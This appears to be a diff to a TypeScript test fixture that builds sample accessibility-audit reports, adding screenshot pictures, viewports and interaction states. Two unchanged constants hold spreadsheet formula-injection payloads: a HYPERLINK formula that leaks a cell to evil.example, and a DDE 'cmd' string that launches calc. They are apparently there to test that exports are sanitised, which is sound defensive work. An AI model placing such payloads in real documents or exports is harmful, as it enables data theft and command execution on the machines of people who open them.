@@ -6,8 +6,8 @@ import type {
   CriterionResult,
   DiffRow,
   IssueGroup,
-  IssueRow,
   Report,
+  ReportIssueRow,
   ReportKind,
   ReportPage,
   SeverityCounts,
@@ -16,6 +16,21 @@ import type {
 import { SEVERITIES, type Severity } from '../../src/shared/contracts.ts';
 import { summaryCounts } from '../../src/reports/report-data.ts';
 import { WCAG22_A_AA } from '../../src/shared/wcag.ts';
+import { encodePng } from './png.ts';
+
+/** A 240x120 picture: a grey page with a magenta frame, as the service's screenshots look. */
+export function samplePicture(seed = 0): Buffer {
+  const w = 240;
+  const h = 120;
+  const px = new Uint8Array(w * h * 3);
+  for (let y = 0; y < h; y++)
+    for (let x = 0; x < w; x++) {
+      const frame = (x >= 60 && x < 180 && (y === 40 || y === 41 || y === 80 || y === 81)) || (y >= 40 && y < 82 && (x === 60 || x === 61 || x === 178 || x === 179));
+      const o = (y * w + x) * 3;
+      px.set(frame ? [0xe6, 0, 0x7e] : [235 - ((x + seed) % 7), 235, 238], o);
+    }
+  return encodePng(w, h, 3, px);
+}
 
 export const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
 export const HOSTILE_LINK_TEXT = '@SUM(1+1)*cmd|\' /C calc\'!A0';
@@ -43,6 +58,8 @@ export interface SampleReportOptions {
   pages?: number;
   issuesPerPage?: number;
   crawls?: number;
+  /** Give the first groups a picture (PNG) and some issues a picture link, a state and a viewport. */
+  pictures?: boolean;
 }
 
 /** A deterministic report: `pages` pages, `issuesPerPage` issues each, cycling through the rules above. */
@@ -54,7 +71,8 @@ export function sampleReport(opts: SampleReportOptions = {}): Report {
   const pageUrl = (i: number) => (i === 0 ? `${origin}/` : `${origin}/docs/page-${i}.html`);
   const pageTitle = (i: number) => (i === 1 ? HOSTILE_TITLE : i === 0 ? 'Example home' : `Documentation page ${i}`);
 
-  const rowFor = (p: number, k: number): IssueRow => {
+  const pictures = opts.pictures ?? false;
+  const rowFor = (p: number, k: number): ReportIssueRow => {
     const rule = RULES[(p + k) % RULES.length]!;
     const linkText = p === 1 && k === 0 ? HOSTILE_LINK_TEXT : `Read more ${k}`;
     return {
@@ -75,6 +93,10 @@ export function sampleReport(opts: SampleReportOptions = {}): Report {
       alsoFlaggedBy: k === 2 ? ['target-size-mobile'] : [],
       firstSeenAt: new Date('2026-11-01T10:00:00Z'),
       lastSeenAt: new Date('2026-11-20T10:00:00Z'),
+      state: pictures && k === 4 ? { action: 'click', target: '#menu-button', label: 'Menu' } : null,
+      viewport: pictures && k === 5 ? 'mobile' : null,
+      hasScreenshot: pictures && k === 0,
+      screenshotUrl: pictures && k === 0 ? `https://audit.example/api/sites/40000000-0000-4000-8000-000000000001/issues/${String(p * 1000 + k).padStart(12, '0')}/screenshot` : null,
     };
   };
 
@@ -134,8 +156,12 @@ export function sampleReport(opts: SampleReportOptions = {}): Report {
       pageUrl: pageUrl(k),
       selector: k === 1 ? HOSTILE_LINK_TEXT : `#main > p:nth-child(${k + 2}) > img`,
       html: `<img src="/img/${k}.png" class="hero">`,
+      state: pictures && k === 1 ? { action: 'click' as const, target: '#menu-button', label: 'Menu' } : null,
+      viewport: pictures && k === 2 ? ('mobile' as const) : null,
+      screenshotUrl: pictures && k === 0 ? `https://audit.example/api/sites/40000000-0000-4000-8000-000000000001/issues/5000000${i}-0000-4000-8000-000000000000/screenshot` : null,
     })),
     examplePages: [...perRule[i]!.pages].sort().slice(0, 5),
+    picture: pictures ? { image: samplePicture(i), width: 240, height: 120, alt: `Screenshot of example element 1 of \u201c${r.title}\u201d, outlined in magenta` } : null,
   }));
   const sevRank = (s: Severity) => SEVERITIES.indexOf(s);
   groups.sort((a, b) => sevRank(a.severity) - sevRank(b.severity) || b.pages - a.pages || b.elements - a.elements);
@@ -281,7 +307,7 @@ export function sampleReport(opts: SampleReportOptions = {}): Report {
         : null,
     trend,
     async *issueRows() {
-      const batch: IssueRow[] = [];
+      const batch: ReportIssueRow[] = [];
       for (let p = 0; p < nPages; p++) {
         if (pages.find((x) => x.url === pageUrl(p))?.state === 'failed') continue;
         for (let k = 0; k < perPage; k++) {
